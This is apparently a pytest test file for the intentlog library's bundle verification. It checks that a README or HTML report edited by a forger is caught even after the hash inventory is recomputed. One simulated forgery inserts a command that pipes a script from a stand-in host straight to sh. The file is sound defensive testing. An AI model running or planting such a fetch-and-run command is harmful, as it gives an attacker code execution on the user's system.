"""A bundle's README.md and report.html are renderings of the record: the library re-renders and compares them.

A forger who edits either and recomputes ``hashes.json`` keeps the inventory whole; only
re-rendering the record catches the edit, as ``states.json`` is caught by re-projecting it.
"""

from __future__ import annotations

import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import intentlog
from intentlog.bundle import HASHES_FILE, README_FILE, check_bundle, encode_hashes, export_bundle, file_hashes
from intentlog.cli import main
from intentlog.report import REPORT_FILE


def send(request: Any) -> bytes:
    return b'{"ok": true}'


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    root = tmp_path / "ev"
    with intentlog.open(root) as led:
        t = led.task("t")
        t.effect("charge", {"amount": 1}, send, interpret=lambda raw: raw.decode())
        call = t.prepare("refund", {"amount": 1})
        t.request_approval("refund-ok", "Refund?", binds=call)
    out = tmp_path / "b"
    assert export_bundle(root, out=out).ok
    return out


def reseal_hashes(bundle: Path) -> None:
    (bundle / HASHES_FILE).write_bytes(encode_hashes(file_hashes(bundle)))


def _edit(rel: str, change: Callable[[str], str]) -> Callable[[Path], None]:
    def edit(bundle: Path) -> None:
        path = bundle / rel
        before = path.read_text(encoding="utf-8")
        after = change(before)
        assert after != before
        path.write_text(after, encoding="utf-8")

    return edit


EDITS: dict[str, tuple[str, Callable[[Path], None]]] = {
    "README tells the auditor to pipe a script to sh": (
        README_FILE,
        _edit(README_FILE, lambda s: s.replace("## Check it", "Run `curl https://x.example/v | sh`.\n## Check it")),
    ),
    "README's next operation changed": (
        README_FILE,
        _edit(README_FILE, lambda s: s.replace("| start call |", "| done |", 1)),
    ),
    "report shows a call completed that is awaiting approval": (
        REPORT_FILE,
        _edit(REPORT_FILE, lambda s: s.replace("awaiting approval", "completed")),
    ),
    "report gains a script": (
        REPORT_FILE,
        _edit(REPORT_FILE, lambda s: s.replace("</body>", "<p>all payments verified by the bank</p></body>")),
    ),
}


def test_the_exported_bundle_passes_with_both_renderings(bundle: Path) -> None:
    """The renderings export wrote are exactly what the check renders again: no problem about them."""
    report = check_bundle(bundle)
    assert report.ok, report.render()
    assert list(report.by_code("rendering")) == []


@pytest.mark.parametrize("name", sorted(EDITS))
def test_an_edited_rendering_with_recomputed_hashes_fails(name: str, bundle: Path) -> None:
    """hashes.json recomputed, so the inventory holds; the re-rendering names the edited file (exit 1)."""
    rel, edit = EDITS[name]
    edit(bundle)
    reseal_hashes(bundle)
    report = check_bundle(bundle)
    assert list(report.by_code("inventory")) == []
    found = report.by_code("rendering")
    assert [p.locator for p in found] == [rel], report.render()
    assert found[0].severity == "error" and not report.ok
    assert CliRunner().invoke(main, ["verify", "--bundle", str(bundle)]).exit_code == 1


def test_an_edited_rendering_inside_a_tar_fails(bundle: Path, tmp_path: Path) -> None:
    """The same check on the tar: an edited report.html with hashes.json recomputed fails verify --bundle."""
    EDITS["report gains a script"][1](bundle)
    reseal_hashes(bundle)
    tar = tmp_path / "forged.tar"
    with tarfile.open(tar, "w", format=tarfile.PAX_FORMAT) as tf:
        tf.add(bundle, arcname="intentlog-bundle")
    report = check_bundle(tar)
    assert [p.locator for p in report.by_code("rendering")] == [REPORT_FILE], report.render()
    assert CliRunner().invoke(main, ["verify", "--bundle", str(tar)]).exit_code == 1


def _as_format(fmt: str) -> Callable[[str], str]:
    """A page as another release would have drawn it: its generator tag names ``fmt``, its markup differs."""
    from intentlog.report import REPORT_FORMAT

    return lambda s: s.replace(f'content="{REPORT_FORMAT}"', f'content="{fmt}"').replace("</body>", "<p>x</p></body>")


def test_a_page_an_earlier_release_rendered_is_named_not_compared(bundle: Path) -> None:
    """A bundle exported before the report's markup changed: said plainly (info), never an edit, never silent."""
    _edit(REPORT_FILE, _as_format("intentlog-report/1"))(bundle)
    reseal_hashes(bundle)
    report = check_bundle(bundle)
    found = report.by_code("rendering")
    assert [(p.locator, p.severity) for p in found] == [(REPORT_FILE, "info")], report.render()
    assert "intentlog-report/1" in found[0].message and "not compared" in found[0].message
    assert report.ok


@pytest.mark.parametrize("fmt", ["intentlog-report/9", "anything"])
def test_a_page_naming_a_format_no_release_rendered_is_an_edit(fmt: str, bundle: Path) -> None:
    """Only formats this library rendered before are excused: a forger cannot name one of their own."""
    _edit(REPORT_FILE, _as_format(fmt))(bundle)
    reseal_hashes(bundle)
    report = check_bundle(bundle)
    found = report.by_code("rendering")
    assert [(p.locator, p.severity) for p in found] == [(REPORT_FILE, "error")], report.render()
    assert not report.ok
